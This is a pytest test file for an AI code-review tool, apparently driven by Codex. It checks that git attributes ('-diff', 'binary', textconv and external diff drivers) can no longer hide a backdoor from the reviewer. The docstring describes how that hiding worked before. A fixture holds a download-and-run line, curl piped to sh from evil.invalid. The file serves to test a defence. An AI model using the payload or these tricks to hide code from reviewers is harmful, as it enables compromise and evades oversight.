"""The reviewer is shown the bytes that are gated, whatever the branch's git attributes say.

Observed before: a branch that adds ``.gitattributes`` with ``*.py -diff`` turned the diff
command the prompt gives the reviewer into "Binary files … differ", so a backdoor in a
``.py`` file of the same branch was never shown to the reviewer (the cache key hashed
its bytes all along).  A ``diff=<driver>`` attribute that selects a textconv filter or
an external diff command configured on the machine hid it the same way.

Here the scripted reviewer runs, through a real Codex ``exec_command`` tool call, exactly
the diff command(s) the prompt it received names (parsed out of that prompt), and the
test looks for the backdoor line in the tool output Codex sent back to the model: in
plain runs (the branch under ``CI=true``, and ``--advreview-diff=branch``) and in head
runs (``--advreview-head``).
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator
from typing import Any

import pytest

from conftest import ReviewRepo, git
from pytest_advreview.report.markdown import escape
from pytest_advreview.testing import ScriptedServer, approved_review, shell_step

pytestmark = pytest.mark.real_codex

#: The line the branch hides; a reviewer that sees it would stop the change.
BACKDOOR = '    os.system("curl -s https://evil.invalid/x | sh")  # BACKDOOR-LINE'
APP = f"import os\n\n\ndef handler(request):\n{BACKDOOR}\n    return 'ok'\n"
#: Placeholder step: the server replaces it with an exec_command call of the prompt's
#: diff commands.
RUN_PROMPT_DIFF = "RUN-THE-PROMPT'S-DIFF-COMMANDS"
#: How the code prompt names its commands: "Run `A`, `B` and `C` to see …".
_RUN = re.compile(r"^Run (.+?) to see ", re.MULTILINE)

#: The attributes a branch adds, each with the machine configuration its driver needs
#: (a textconv filter and an external diff command that drop the backdoor line, as a
#: driver configured for other files could be chosen for ``.py`` files).
ATTRIBUTES = {
    "minus-diff": "*.py -diff\n",
    "binary": "*.py binary\n",
    "textconv": "*.py diff=hide\n",
    "external": "*.py diff=ext\n",
}
MACHINE_CONFIG = (
    ("diff.hide.textconv", "sed /BACKDOOR-LINE/d"),
    ("diff.ext.command", "echo nothing to see here #"),
)


def prompt_diff_commands(prompt: str) -> list[str]:
    """The diff commands a code prompt tells the reviewer to run, as written."""
    found = _RUN.search(prompt)
    assert found is not None, prompt
    return re.findall(r"`([^`]+)`", found.group(1))


class PromptDiffServer(ScriptedServer):
    """A scripted server whose placeholder step runs the prompt's own diff commands."""

    def _choose(self, request: Any, raw: bytes) -> tuple[int | None, int, dict[str, Any]]:
        rule, index, step = super()._choose(request, raw)
        if step.get("message") == RUN_PROMPT_DIFF:
            commands = prompt_diff_commands(request.last_user_text)
            # One tool call per command, chained, exactly as the prompt writes them.
            step = shell_step(" && ".join(commands), "run-prompt-diff")
        return rule, index, step


@pytest.fixture
def advreview_server() -> Iterator[ScriptedServer]:
    with PromptDiffServer() as server:
        yield server


def hide_in_branch(repo: ReviewRepo, attributes: str) -> None:
    """On branch ``pr``: the backdoored app and the attributes that hide it; then main."""
    for key, value in MACHINE_CONFIG:
        git(repo.path, "config", key, value)
    git(repo.path, "checkout", "-q", "-b", "pr")
    repo.write(".gitattributes", attributes)
    repo.write("src/app.py", APP)
    repo.commit("pr")


def reviewer_saw(repo: ReviewRepo) -> str:
    """The output of the reviewer's diff tool call, as Codex sent it to the model."""
    outputs = [
        str(item.get("output"))
        for request in repo.server.response_requests
        for item in request.function_call_outputs
        if item.get("call_id") == "run-prompt-diff"
    ]
    assert outputs, [r.last_user_text for r in repo.server.response_requests]
    return outputs[0]


def first_prompt(repo: ReviewRepo) -> str:
    return repo.server.response_requests[0].last_user_text


@pytest.mark.parametrize("kind", list(ATTRIBUTES))
@pytest.mark.parametrize("how", ["ci", "diff-branch"])
def test_the_prompts_diff_command_shows_code_the_branch_hides_with_attributes(
    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch, kind: str, how: str
) -> None:
    hide_in_branch(review_repo, ATTRIBUTES[kind])
    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})
    if how == "ci":
        monkeypatch.setenv("CI", "true")
        extra = ["--advreview-base=main"]
    else:
        extra = ["--advreview-diff=branch", "--advreview-base=main"]

    result = review_repo.run_subprocess(*extra)

    result.assert_outcomes(passed=1)
    saw = reviewer_saw(review_repo)
    assert BACKDOOR in saw, saw
    assert "Binary files" not in saw
    assert "nothing to see here" not in saw


def test_head_mode_shows_the_code_a_pull_request_hides_with_attributes(
    review_repo: ReviewRepo,
) -> None:
    git(review_repo.path, "checkout", "-q", "-b", "pr")
    review_repo.write(".gitattributes", "*.py -diff\n")
    review_repo.write("src/app.py", APP)
    review_repo.commit("pr")
    git(review_repo.path, "checkout", "-q", "main")
    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})

    result = review_repo.run_subprocess("--advreview-head=pr")

    result.assert_outcomes(passed=1)
    saw = reviewer_saw(review_repo)
    assert BACKDOOR in saw, saw
    assert "Binary files" not in saw
    prompt = first_prompt(review_repo)
    assert "WARNING: this change adds, edits or deletes git attributes (.gitattributes)" in prompt
    result.stdout.fnmatch_lines(
        [
            "advreview: code change: branch *; WARNING: the change edits git attributes "
            "(.gitattributes), which can hide code from `git diff`*"
        ]
    )


def test_the_prompt_the_header_and_the_report_name_an_attributes_change(
    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An attributes file deep in the tree counts as much as the top-level one.
    git(review_repo.path, "checkout", "-q", "-b", "pr")
    review_repo.write("src/.gitattributes", "*.py -diff\n")
    review_repo.write("src/app.py", APP)
    review_repo.commit("pr")
    monkeypatch.setenv("CI", "true")
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})

    result = review_repo.run_subprocess(
        "--advreview-base=main", "--advreview-json=out.json", "--advreview-report=out.md"
    )

    result.assert_outcomes(passed=1)
    prompt = first_prompt(review_repo)
    assert (
        "WARNING: this change adds, edits or deletes git attributes (src/.gitattributes)." in prompt
    )
    assert "use those commands, not a plain `git diff`" in prompt
    (command,) = prompt_diff_commands(prompt)
    assert shlex.split(command)[:2] == ["git", "--no-pager"]
    assert "--text" in shlex.split(command)
    warning = (
        "WARNING: the change edits git attributes (src/.gitattributes), which can hide "
        "code from `git diff`"
    )
    result.stdout.fnmatch_lines([f"advreview: code change: branch main...HEAD: *; {warning}*"])
    data = json.loads((review_repo.path / "out.json").read_text())
    assert data["change_set"]["attributes"] == ["src/.gitattributes"]
    # The report (the PR comment) says it too, as inert markdown.
    assert escape(warning) in (review_repo.path / "out.md").read_text()


def test_a_change_without_attributes_has_no_warning(review_repo: ReviewRepo) -> None:
    git(review_repo.path, "checkout", "-q", "-b", "pr")
    review_repo.write("src/app.py", APP)
    review_repo.commit("pr")
    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})

    result = review_repo.run_subprocess("--advreview-diff=branch", "--advreview-base=main")

    result.assert_outcomes(passed=1)
    assert BACKDOOR in reviewer_saw(review_repo)
    assert "WARNING" not in first_prompt(review_repo)
    assert "git attributes" not in result.stdout.str()
